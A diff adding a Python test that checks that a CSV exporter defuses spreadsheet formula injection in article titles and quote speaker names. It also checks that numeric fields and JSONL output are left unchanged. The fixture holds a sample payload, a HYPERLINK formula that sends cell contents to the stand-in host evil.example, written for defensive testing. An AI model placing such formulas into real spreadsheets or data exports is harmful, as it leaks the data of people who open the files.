@@ -451,6 +451,24 @@ def test_stance_names_prefer_a_stored_name_to_the_bare_id(store):
     assert {e["source_name"] for e in stances(store, source="Q80510", examples=0)} == {"Sergey Lavrov"}
 
 
+def test_csv_exports_defuse_spreadsheet_formulas(store):
+    # articles are untrusted: a title or quote that starts with = + - @ must not run in a spreadsheet
+    evil = make_analysis(title='=HYPERLINK("http://evil.example/?"&A1,"open")')
+    evil.quotes[1].speaker.name = "@SUM(1+1)"
+    store.write_analysis(evil, PIPE)
+    out = io.StringIO()
+    export(store, "csv", out, table="articles")
+    (row,) = list(csv.DictReader(io.StringIO(out.getvalue())))
+    assert row["title"] == "'" + evil.article.title and row["text"].startswith("'=HYPERLINK")
+    assert row["n_chars"] == str(len(evil.article.text))  # numbers stay numbers
+    out = io.StringIO()
+    export(store, "csv", out, table="quotes")
+    assert "'@SUM(1+1)" in {r["speaker_name"] for r in csv.DictReader(io.StringIO(out.getvalue()))}
+    out = io.StringIO()
+    export(store, "jsonl", out, table="articles")  # JSON is data, not a spreadsheet: unchanged
+    assert json.loads(out.getvalue().splitlines()[0])["title"] == evil.article.title
+
+
 def test_exports(filled, tmp_path):
     out = io.StringIO()
     assert export(filled, "jsonl", out) == 2
